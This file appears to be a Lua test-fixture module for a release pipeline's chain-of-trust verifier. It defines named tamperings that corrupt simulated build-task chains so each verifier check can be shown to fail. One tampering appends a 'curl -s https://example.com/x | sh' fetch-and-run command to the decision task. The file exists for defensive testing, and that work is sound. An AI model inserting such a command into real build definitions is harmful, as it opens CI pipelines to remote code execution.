      rec.def.payload.rdpInfo = "public/rdpinfo.txt"
      return rec
    end,
  },
  image_hash_mismatch = {
    catalogue = { 56 }, check = "docker-worker task-image: imageArtifactHash vs the docker-image CoT (phase 6)",
    fn = function(chain, arg)
      local rec = target(chain, arg, DOCKER_BUILDS, "a docker-worker build")
      assert(rec.environment.imageArtifactHash, "cot_chain: " .. rec.key .. " has no task image")
      rec.environment.imageArtifactHash = "sha256:" .. hex_bytes(32)
      return rec
    end,
  },
  image_taskid_mismatch = {
    catalogue = { 53 }, check = "docker-worker task-image: image.taskId vs chainOfTrust.inputs (phase 6)",
    fn = function(chain, arg)
      local rec = target(chain, arg, DOCKER_BUILDS, "a docker-worker build")
      assert(type(rec.def.payload.image) == "table", "cot_chain: " .. rec.key .. " has no task image")
      rec.def.payload.image.taskId = chain.decision.id
      return rec
    end,
  },
  prebuilt_image_not_allowed = {
    catalogue = { 59 }, check = "docker-worker prebuilt image for a type not in prebuilt_docker_image_task_types",
    -- firefox only (GitHub products allow any prebuilt image)
    fn = function(chain, arg)
      assert(chain.product.kind == "hg", "cot_chain: " .. chain.product_name .. " allows prebuilt images")
      local rec = target(chain, arg, DOCKER_BUILDS, "a docker-worker build")
      rec.def.payload.image = "mozillareleases/build:1.0@sha256:" .. hex_bytes(32)
      rec.def.extra.chainOfTrust = nil
      rec.environment = O({ imageHash = "sha256:" .. hex_bytes(32) })
      return rec
    end,
  },
  graph_missing_task = {
    catalogue = { 32 }, check = "every child is a key of its parent's task-graph.json (phase 5)",
    fn = function(chain, arg)
      local rec = target(chain, arg, { "root" }, "the root")
      add_hook(chain, "graph", function(_, _, graph)
        graph[rec.id] = nil
      end)
      return rec
    end,
  },
  graph_field_differs = {
    catalogue = { 34 }, check = "graph task fields equal the runtime definition (phase 5)",
    fn = function(chain, arg)
      local rec = target(chain, arg, { "build", "generic-build", "root" }, "a graph member")
      add_hook(chain, "graph", function(_, _, graph)
        if graph[rec.id] then
          graph[rec.id].task.payload.maxRunTime = 99999
        end
      end)
      return rec
    end,
  },
  graph_deps_mismatch = {
    catalogue = { 33 }, check = "runtime dependencies within the graph's plus the decision (phase 5)",
    -- the graph lists none of the runtime dependencies but the decision
    fn = function(chain, arg)
      local rec = target(chain, arg, { "build", "root", "generic-build" }, "a graph member with dependencies")
      add_hook(chain, "graph", function(_, _, graph)
        if graph[rec.id] then
          graph[rec.id].task.dependencies = A({ chain.decision.id })
        end
      end)
      return rec
    end,
  },
  decision_definition_edited = {
    catalogue = { 48 }, check = "cot v2: the decision doesn't match its json-e rebuild (phase 5)",
    fn = function(chain, arg)
      local rec = target(chain, arg, { "decision" }, "the decision")
      local cmd = rec.def.payload.command
      cmd[#cmd] = cmd[#cmd] .. " && curl -s https://example.com/x | sh"
      local render = rec.render
      rec.render = function()
        local def = render()
        def.payload.command[#def.payload.command] = cmd[#cmd]
        return def
      end
      return rec
    end,
  },
  untrusted_repo = {
    catalogue = { 72 }, check = "trace back: a task of the root's group from another (untrusted) repo (phase 7)",
    -- env and source agree (so get_source_url passes), on an untrusted repo
    fn = function(chain, arg)
      local rec = target(chain, arg, { "build", "generic-build", "docker-image" }, "a build")
      local p = chain.product
      local repo = p.kind == "hg" and "https://hg.mozilla.org/projects/ash"
          or "https://github.com/" .. p.owner .. "-fork/" .. p.name
      rec.def.payload.env[p.prefix .. "_HEAD_REPOSITORY"] = repo
      rec.def.metadata.source = rec.def.metadata.source:gsub("^" .. chain.repo:gsub("%p", "%%%0"), repo)
      return rec
    end,
  },
  restricted_scope_wrong_tree = {
    opts = { restricted = true },
    catalogue = { 70 }, check = "trace back: the root's restricted scope is not allowed for its tree (phase 7)",
    fn = function(chain)
      local scope = chain.product.wrong_tree_scopes[1]
      assert(scope, "cot_chain: " .. chain.product_name .. " has no restricted scope outside its one tree")
      chain.root.scopes = A({ scope })
      return chain.root_rec
    end,
  },
  try_in_chain = {
    opts = { restricted = true },
    catalogue = { 74, 75 }, check = "trace back: try task (hg) or pull request (GitHub) with restricted scopes",
    -- hg: MH_BRANCH names try on a trusted repo; GitHub: the build says it
    -- ran for a pull request. Needs opts.restricted (else it is allowed).
    fn = function(chain, arg)
      assert(chain.restricted, "cot_chain: try_in_chain needs a restricted chain")
      local rec = target(chain, arg, { "build", "generic-build", "docker-image" }, "a build")
      if chain.product.kind == "hg" then
        rec.def.payload.env.MH_BRANCH = "try"
      else
        rec.def.extra.tasks_for = "github-pull-request"
      end
      return rec
    end,
  },
  source_mismatch = {
    catalogue = { 66 }, check = "trace back: HEAD_REPOSITORY doesn't match metadata.source (phase 7)",
    fn = function(chain, arg)
      local rec = target(chain, arg, { "build", "generic-build", "docker-image" }, "a build")
      local p = chain.product
      local other = p.kind == "hg" and "https://hg.mozilla.org/releases/mozilla-release"
          or "https://github.com/mozilla-mobile/firefox-android"
      rec.def.payload.env[p.prefix .. "_HEAD_REPOSITORY"] = other
      return rec
    end,
  },
  too_deep = {
    catalogue = { 5 }, check = "build chain: a link name with more than max_chain_length colons (phase 1)",
    -- `arg` (default 20) scriptworker signing links are put in a line
    -- between the root and its upstream tasks: the root's upstream of depth
    -- 1 is deep-1, ..., deep-N's upstream tasks are at depth N+1.
    fn = function(chain, arg)
      local n = arg or 20
      local root = chain.root_rec
      local ua = root.def.payload.upstreamArtifacts
      local deps = root.def.dependencies
      local t = chain.t_next
      local p = chain.product
      local prev_ua, prev_deps = ua, deps
      local recs = {}
      for i = n, 1, -1 do
        local s = add_task(chain, { key = "deep-" .. i, type = "signing", impl = "scriptworker",
          group = chain.decision, parent = chain.script_parent, kind = "signing", label = "deep-signing-" .. i })
        local extra = O({})
        if chain.script_parent ~= chain.decision then
          extra.parent = chain.script_parent.id
        end
        s.def = task_def(chain, {
          created_ms = t, taskGroupId = chain.decision.id, provisionerId = "scriptworker-k8s",
          workerType = p.trust .. "-3-signing", dependencies = prev_deps,
          scopes = A({ p.scope_base .. ":signing:cert:dep-signing" }),
          payload = O({ maxRunTime = 600, upstreamArtifacts = prev_ua }),
          metadata = metadata(chain, "deep-signing-" .. i, "taskcluster/kinds/signing"),
          extra = extra,
        })
        s.environment = O({})
        s.out = "public/build/target.tar.gz"
        add_artifact(s, s.out, sign.random_bytes(512))
        t = t + 10
        prev_ua = A({ O({ taskId = s.id, taskType = "signing", paths = A({ s.out }), formats = A({ "gpg" }) }) })
        prev_deps = A({ s.id })
        recs[#recs + 1] = s
      end
      -- the Queue needs dependencies first, the root last
      for i, rec in ipairs(chain.tasks) do
        if rec == root then
          table.remove(chain.tasks, i)
          break
        end
      end
      chain.tasks[#chain.tasks + 1] = root
      root.def.payload.upstreamArtifacts = prev_ua
      root.def.dependencies = prev_deps
      return recs[#recs]
    end,
  },
  parent_not_decision = {
    catalogue = { 78 }, check = "stricter: extra.parent must name a decision or action task (phase 5)",
    -- the root's extra.parent names a build already in the chain (Python
    -- then takes that build for a decision task and fails its pool, #29)
    fn = function(chain, arg)
      local rec = target(chain, arg, { "build", "generic-build", "docker-image" }, "a build")
      chain.root.extra.parent = rec.id
      return chain.root_rec
    end,
  },
  artifact_missing = {
    catalogue = { 24 }, check = "download of a mandatory upstream artifact: 404 (phase 4; it is in the CoT)",
    fn = function(chain, arg)
      local rec = target(chain, arg, { "build", "generic-build", "signing", "l10n-1" }, "an upstream artifact")
      add_hook(chain, "post", function(c)
        c.artifacts[rec.id][rec.out] = nil
      end)
      return rec
    end,
  },
  parent_artifact_changed = {
    catalogue = { 25 }, check = "digest of the parent's task-graph.json (phase 4; CoT signature good)",
    -- one byte of the pretty-printed graph, after the CoT was made
    fn = function(chain, arg)
      local rec = target(chain, arg, { "decision" }, "the decision")
      assert(not big_graph(chain) or rec ~= chain.root_rec.parent, "cot_chain: not with a file-backed graph")
      add_hook(chain, "post", function(c)
        local arts = c.artifacts[rec.id]
        arts["public/task-graph.json"] = arts["public/task-graph.json"] .. "\n"
      end)
      return rec
    end,
  },
  dependency_type_invalid = {
    catalogue = { 7 }, check = "build chain: upstreamArtifacts taskType is not a task type (phase 1)",
    fn = function(chain)
      local ua = chain.root.payload.upstreamArtifacts
      assert(#ua > 0, "cot_chain: the root has no upstreamArtifacts")
      ua[1].taskType = ua[1].taskType .. "0"
      return chain.root_rec
    end,
  },
  action_callback_unknown = {
    opts = { parent = "action" },
    catalogue = { 42 }, check = "cot v2: ACTION_CALLBACK names no action of actions.json (phase 5)",
    fn = function(chain)
      local a = assert(chain.by_key.action, "cot_chain: needs parent = action")
      a.def.payload.env.ACTION_CALLBACK = "release-promotion-evil"
      return a
    end,
  },
  tasks_for_invalid = {
    catalogue = { 36 }, check = "cot v2: extra.tasks_for not in the product's valid_tasks_for (phase 5)",
    fn = function(chain)
      chain.decision.def.extra.tasks_for = chain.product.kind == "hg" and "github-push" or "hg-push"
      return chain.decision
    end,
  },
  commit_msg_mismatch = {
    catalogue = { 41 }, check = "cot v2 hg-push: GECKO_COMMIT_MSG is not the push comment's try: line (phase 5)",
    fn = function(chain)
      local d = chain.decision
      assert(d.tasks_for == "hg-push", "cot_chain: needs an hg-push decision")
      d.def.payload.env.GECKO_COMMIT_MSG = "try: -b do -p all -u all"
      return d
    end,
  },
  indexed_image_restricted = {
    opts = { product = "mobile", restricted = true },
    catalogue = { 57 }, check = "docker-worker: indexed-image with restricted scopes (phase 6; firefox: also #58)",
    fn = function(chain, arg)
      assert(chain.restricted, "cot_chain: indexed_image_restricted needs a restricted chain")
      local rec = target(chain, arg, DOCKER_BUILDS, "a docker-worker build")
      rec.def.payload.image = O({ type = "indexed-image", namespace = chain.product.trust
        .. ".cache.level-3.docker-images.v2.build.latest", path = M.IMAGE_PATH })
      rec.def.extra.chainOfTrust = nil
      rec.environment = O({ imageHash = "sha256:" .. hex_bytes(32) })
      return rec
    end,
  },
  docker_task_without_features = {
    catalogue = { 52 }, check = "docker-worker: payload.features missing (phase 6)",
    fn = function(chain, arg)
      local rec = target(chain, arg, DOCKER_BUILDS, "a docker-worker build")
      rec.def.payload.features = nil
      return rec
    end,
  },
  rdp_scope = {
    opts = { shape = { generic_build = true } },
    catalogue = { 62 }, check = "generic-worker: a generic-worker:allow-rdp: scope (phase 6)",
    fn = function(chain, arg)
      local rec = target(chain, arg, { "generic-build" }, "shape.generic_build")
      rec.def.scopes[#rec.def.scopes + 1] = "generic-worker:allow-rdp:" .. rec.def.taskQueueId
      return rec
    end,
  },
  worker_impl_tag_unknown = {
    catalogue = { 16, 64 }, check = "a tagged worker implementation that has no keys and no verifier",
    -- tags["worker-implementation"] is the only mark left; signed with the
    -- docker-worker key, which no key of that implementation can verify
    fn = function(chain, arg)
      local rec = target(chain, arg, DOCKER_BUILDS, "a docker-worker build")
      rec.def.payload.image = nil
      rec.def.scopes = A({})
      rec.def.tags["worker-implementation"] = "taskcluster-worker"
      return rec
    end,
  },
  taskcluster_yml_missing = {
    catalogue = { 39 }, check = "cot v2: .taskcluster.yml at the decision's revision cannot be fetched (phase 5)",
    fn = function(chain)
      add_hook(chain, "post", function(c)
        c.mirror[template_path(c, c.decision.rev)] = nil
      end)
      return chain.decision
    end,
  },
}

-- build_tampered(name[, opts[, arg]]) -> chain: a chain of a shape the
-- tampering applies to (its `opts`, then `opts` given here), tampered.
function M.build_tampered(name, opts, arg)
  local t = assert(M.TAMPERINGS[name], "cot_chain: unknown tampering " .. tostring(name))
  local o = copy(t.opts or {})
  for k, v in pairs(opts or {}) do
    o[k] = v
  end
  return M.build(o):tamper(name, arg)
end

-- tamper(name[, arg]) -> chain: applies ONE tampering (M.TAMPERINGS) and
-- seals the chain again. chain.tampered = {name, key, catalogue, check}.
function Chain:tamper(name, arg)
  local t = M.TAMPERINGS[name]
  if not t then
    error("cot_chain: unknown tampering " .. tostring(name), 2)
  end
  assert(not self.tampered, "cot_chain: this chain is already tampered with (" .. tostring(self.tampered and
    self.tampered.name) .. ")")
  local rec = t.fn(self, arg)
  self.root = self.root_rec.def
  self.tampered = { name = name, key = rec and rec.key, catalogue = t.catalogue, check = t.check }
  return self:seal()
end

return M
